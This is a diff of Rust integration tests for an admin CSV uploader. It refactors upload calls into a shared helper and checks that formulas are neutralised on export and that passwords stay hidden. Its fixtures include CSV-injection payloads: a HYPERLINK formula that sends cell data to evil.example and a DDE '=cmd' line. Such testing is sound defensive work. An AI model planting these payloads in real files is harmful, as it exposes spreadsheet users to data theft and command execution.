@@ -11,8 +11,6 @@ use reqwest::multipart::{Form, Part};
 use serde_json::{Value as Json, json};
 use std::time::{Duration, Instant};
 
-const UPLOAD: &str = "/tools/uploader.ex.php";
-
 /// Names a spreadsheet would run, quoted names, and a plain one.
 const NAMES: [&str; 8] = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
@@ -29,14 +27,6 @@ fn form(entity: &str, bytes: Vec<u8>) -> Form {
     Form::new()
         .text("entity", entity.to_string())
         .part("csvfile", Part::bytes(bytes).file_name("f.csv"))
-}
-
-async fn upload(app: &TestApp, f: Form) -> reqwest::Response {
-    app.admin(Method::POST, UPLOAD)
-        .multipart(f)
-        .send()
-        .await
-        .unwrap()
 }
 
 /// The records of a CSV text (header included).
@@ -131,7 +121,7 @@ async fn exports_neutralise_formulas_and_an_edited_export_uploads_back_unchanged
                 .collect(),
         );
     }
-    let r = upload(&app, form("campaigns", csv_text(&edited))).await;
+    let r = upload::upload_response(&app, form("campaigns", csv_text(&edited))).await;
     assert_eq!(r.status(), 200);
     let result = records(&r.text().await.unwrap());
     let rh = &result[0];
@@ -162,7 +152,7 @@ async fn exports_neutralise_formulas_and_an_edited_export_uploads_back_unchanged
     for row in &mut again[1..] {
         row[col(rh, "res")] = String::new();
     }
-    let r = upload(&app, form("campaigns", csv_text(&again))).await;
+    let r = upload::upload_response(&app, form("campaigns", csv_text(&again))).await;
     assert_eq!(r.status(), 200);
     assert_eq!(names(&app).await, before);
 
@@ -189,7 +179,7 @@ async fn uploaded_cells_are_read_unescaped_and_echoed_escaped() {
         rows.iter()
             .map(|(c, _, _)| vec!["c".to_string(), c.to_string()]),
     );
-    let r = upload(&app, form("campaigns", csv_text(&csv))).await;
+    let r = upload::upload_response(&app, form("campaigns", csv_text(&csv))).await;
     assert_eq!(r.status(), 200);
     let result = records(&r.text().await.unwrap());
     let h = &result[0];
@@ -206,7 +196,7 @@ async fn uploaded_cells_are_read_unescaped_and_echoed_escaped() {
 
     // A failing row echoes its cells escaped too, and its `res` is safe text.
     let bad = b"op,name,type\nc,=cmd|' /C calc'!A0,=1+1\n".to_vec();
-    let r = upload(&app, form("campaigns", bad)).await;
+    let r = upload::upload_response(&app, form("campaigns", bad)).await;
     assert_eq!(r.status(), 200);
     let result = records(&r.text().await.unwrap());
     let (h, row) = (&result[0], &result[1]);
@@ -277,7 +267,7 @@ async fn passwords_never_appear_in_uploader_results_or_details() {
     let app = spawn_app().await;
 
     // Synchronous, the result CSV in the reply.
-    let r = upload(&app, form("users", users_csv())).await;
+    let r = upload::upload_response(&app, form("users", users_csv())).await;
     assert_eq!(r.status(), 200);
     check_users_result(&r.text().await.unwrap());
     assert!(signs_in(&app, "alice", PASSWORD).await);
@@ -290,7 +280,7 @@ async fn passwords_never_appear_in_uploader_results_or_details() {
         .replace("alice", "alice2")
         .replace("bob", "bob2")
         .replace("carol", "carol2");
-    let r = upload(
+    let r = upload::upload_response(
         &app,
         form("users", again.into_bytes())
             .text("show_progress", "1")
@@ -308,7 +298,7 @@ async fn passwords_never_appear_in_uploader_results_or_details() {
         .replace("alice", "alice3")
         .replace("bob", "bob3")
         .replace("carol", "carol3");
-    let r = upload(
+    let r = upload::upload_response(
         &app,
         form("users", again.into_bytes()).text("show_progress", "1"),
     )
@@ -334,7 +324,8 @@ async fn passwords_never_appear_in_uploader_results_or_details() {
         .replace("alice", "alice4")
         .replace("bob", "bob4")
         .replace("carol", "carol4");
-    let r = upload(&app, form("users", again.into_bytes()).text("bgrs", "1")).await;
+    let r =
+        upload::upload_response(&app, form("users", again.into_bytes()).text("bgrs", "1")).await;
     let (s, b) = json(r).await;
     assert_eq!(s, 202, "{b}");
     let rid = b["request"].as_str().unwrap().to_string();
